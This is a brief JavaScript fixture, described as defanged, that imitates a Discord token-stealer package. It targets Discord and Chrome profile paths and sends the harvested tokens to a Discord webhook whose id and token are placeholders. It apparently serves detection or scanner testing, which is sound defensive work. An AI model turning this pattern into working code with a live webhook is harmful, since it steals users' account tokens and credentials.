// defanged fixture in the shape of an0n-chat-lib (webhook id/token are fake)
const { WebhookClient } = require('discord.js');
const paths = ['Roaming/Discord', 'Roaming/discordcanary', 'Local/Google/Chrome/User Data/Default'];
async function run(readTokens) {
  const tokens = await readTokens(paths);
  const client = new WebhookClient('000000000000000000', 'fixture-token-not-real');
  await client.send(tokens.join('\n'));
}
module.exports = run;
